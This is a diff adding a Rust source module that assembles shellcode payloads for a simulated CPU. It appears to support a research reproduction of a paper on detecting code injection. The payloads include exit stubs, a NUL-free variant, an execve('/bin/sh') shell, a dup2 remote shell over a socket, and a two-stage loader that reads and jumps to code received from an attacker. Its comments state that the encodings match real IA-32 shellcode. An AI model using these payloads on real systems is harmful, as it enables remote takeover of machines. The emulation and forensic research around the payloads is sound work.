@@ -1,0 +1,221 @@
+//! Shellcode payloads.
+//!
+//! All payloads are position-independent machine code for the simulated
+//! CPU. Because the ISA's encodings match real IA-32 one-byte opcodes, the
+//! payloads read exactly like their historical counterparts — the paper's
+//! forensic `exit(0)` shellcode is reproduced byte-for-byte.
+
+use sm_asm::assemble;
+
+/// The paper's §6.1.3 forensic shellcode, verbatim:
+/// `mov ebx, 0; mov eax, 1; int 0x80` — `exit(0)`.
+pub const PAPER_EXIT0: &[u8] = b"\xbb\x00\x00\x00\x00\xb8\x01\x00\x00\x00\xcd\x80";
+
+fn build(src: &str) -> Vec<u8> {
+    assemble(src, 0)
+        .unwrap_or_else(|e| panic!("shellcode failed to assemble: {e}"))
+        .bytes
+}
+
+/// `exit(code)` payload — handy as a success marker in benchmarks
+/// (an exit status of `code` proves the injected code ran).
+pub fn exit_code(code: u8) -> Vec<u8> {
+    build(&format!(
+        "mov ebx, {code}
+         mov eax, 1
+         int 0x80"
+    ))
+}
+
+/// NUL-free `exit(code)` payload, for injection through `strcpy`-style
+/// copies that stop at the first zero byte (the classic shellcode
+/// constraint).
+///
+/// # Panics
+///
+/// Panics if `code` is 0 (the encoding uses the byte directly).
+pub fn exit_code_nul_free(code: u8) -> Vec<u8> {
+    assert_ne!(code, 0, "zero exit code cannot be encoded NUL-free here");
+    let sc = build(&format!(
+        "xor ebx, ebx
+         mov bl, {code}
+         xor eax, eax
+         inc eax
+         int 0x80"
+    ));
+    assert!(!sc.contains(&0u8), "encoding regression: {sc:02x?}");
+    sc
+}
+
+/// Classic `execve(\"/bin/sh\")` payload: pushes the path onto the stack
+/// and invokes the syscall (the canonical x86 shape).
+pub fn spawn_shell() -> Vec<u8> {
+    build(
+        "xor eax, eax
+         push eax
+         push 0x0068732f      ; \"/sh\\0\"
+         push 0x6e69622f      ; \"/bin\"
+         mov ebx, esp
+         mov eax, 11          ; SYS_EXECVE
+         int 0x80
+         mov ebx, 1           ; execve failed
+         mov eax, 1
+         int 0x80",
+    )
+}
+
+/// Remote-shell payload: `dup2(fd, 0); dup2(fd, 1); execve("/bin/sh")`.
+/// `fd` is the attacker's socket in the victim (real exploits hardcode it
+/// the same way).
+pub fn shell_on_fd(fd: u32) -> Vec<u8> {
+    build(&format!(
+        "mov ebx, {fd}
+         mov ecx, 0
+         mov eax, 63          ; SYS_DUP2
+         int 0x80
+         mov ebx, {fd}
+         mov ecx, 1
+         mov eax, 63
+         int 0x80
+         xor eax, eax
+         push eax
+         push 0x0068732f
+         push 0x6e69622f
+         mov ebx, esp
+         mov eax, 11
+         int 0x80
+         mov ebx, 1
+         mov eax, 1
+         int 0x80"
+    ))
+}
+
+/// Marker the two-stage payload writes back before requesting stage two
+/// (`"OWND"`, the 7350wurm-style success signal).
+pub const STAGE1_MARKER: &[u8; 4] = b"OWND";
+
+/// Offset within the stage-one page where stage two is read to.
+pub const STAGE2_PAGE_OFFSET: u32 = 0x800;
+
+/// Two-stage payload (the WU-FTPD/7350wurm shape from paper §6.1.2/§6.1.3):
+/// stage one signals the attacker with [`STAGE1_MARKER`] over `fd`, then
+/// reads stage two from the socket **onto its own memory page** (offset
+/// [`STAGE2_PAGE_OFFSET`]) and jumps to it. Reading onto the same page is
+/// what makes the paper's observe-mode note true: "our system can
+/// successfully observe the execution of the initial stage of code, but
+/// does not intercede before the second stage because the memory page has
+/// been locked."
+pub fn two_stage_stage1(fd: u32) -> Vec<u8> {
+    build(&format!(
+        "; push \"OWND\" and send it
+         push 0x444e574f
+         mov ecx, esp
+         mov edx, 4
+         mov ebx, {fd}
+         mov eax, 4           ; SYS_WRITE
+         int 0x80
+         pop eax
+         ; locate our own page (call/pop PC-discovery)
+         call getpc
+         getpc: pop eax
+         and eax, 0xfffff000
+         add eax, {off}
+         mov esi, eax         ; stage-two landing zone
+         ; read(fd, landing, 256)
+         mov ecx, esi
+         mov edx, 256
+         mov ebx, {fd}
+         mov eax, 3           ; SYS_READ
+         int 0x80
+         jmp esi",
+        off = STAGE2_PAGE_OFFSET
+    ))
+}
+
+/// A NOP sled of `n` bytes (authentic 0x90s, so forensic dumps look like
+/// the paper's Fig. 5c).
+pub fn nop_sled(n: usize) -> Vec<u8> {
+    vec![0x90; n]
+}
+
+/// Render payload bytes as an `.byte` directive for embedding in guest
+/// program sources.
+pub fn as_byte_directive(bytes: &[u8]) -> String {
+    let list: Vec<String> = bytes.iter().map(|b| format!("{b:#04x}")).collect();
+    format!(".byte {}", list.join(", "))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use sm_machine::isa::{decode_slice, Decoded, Insn};
+
+    #[test]
+    fn paper_exit0_matches_generated() {
+        // Our assembler must reproduce the paper's bytes exactly.
+        let generated = build(
+            "mov ebx, 0
+             mov eax, 1
+             int 0x80",
+        );
+        assert_eq!(generated, PAPER_EXIT0);
+    }
+
+    #[test]
+    fn exit_code_encodes_status() {
+        let sc = exit_code(42);
+        match decode_slice(&sc).unwrap() {
+            Decoded::Insn { insn, .. } => {
+                assert_eq!(insn, Insn::MovRegImm(sm_machine::cpu::Reg::Ebx, 42));
+            }
+            d => panic!("{d:?}"),
+        }
+    }
+
+    #[test]
+    fn spawn_shell_contains_bin_sh() {
+        let sc = spawn_shell();
+        // "/bin" and "//sh" little-endian immediates are present.
+        let s: Vec<u8> = sc.clone();
+        assert!(s.windows(4).any(|w| w == b"/bin"), "{sc:02x?}");
+        assert!(s.windows(4).any(|w| w == b"/sh\x00"));
+    }
+
+    #[test]
+    fn payloads_are_position_independent() {
+        // No absolute addresses: every payload decodes identically and
+        // contains no references to link-time symbols (assembled at 0).
+        for sc in [
+            exit_code(7),
+            spawn_shell(),
+            shell_on_fd(3),
+            two_stage_stage1(4),
+        ] {
+            let mut pos = 0;
+            while pos < sc.len() {
+                match decode_slice(&sc[pos..]) {
+                    Ok(Decoded::Insn { len, .. }) => pos += len as usize,
+                    other => panic!("undecodable payload at {pos}: {other:?}"),
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn stage1_fits_the_scenario_buffers() {
+        // The WU-FTPD scenario's overflow buffer is 96 bytes.
+        assert!(
+            two_stage_stage1(3).len() <= 96,
+            "stage1 too large: {}",
+            two_stage_stage1(3).len()
+        );
+    }
+
+    #[test]
+    fn byte_directive_roundtrip() {
+        let d = as_byte_directive(&[0x90, 0x00, 0xFF]);
+        assert_eq!(d, ".byte 0x90, 0x00, 0xff");
+        let out = sm_asm::assemble(&d, 0).unwrap();
+        assert_eq!(out.bytes, vec![0x90, 0x00, 0xFF]);
+    }
+}
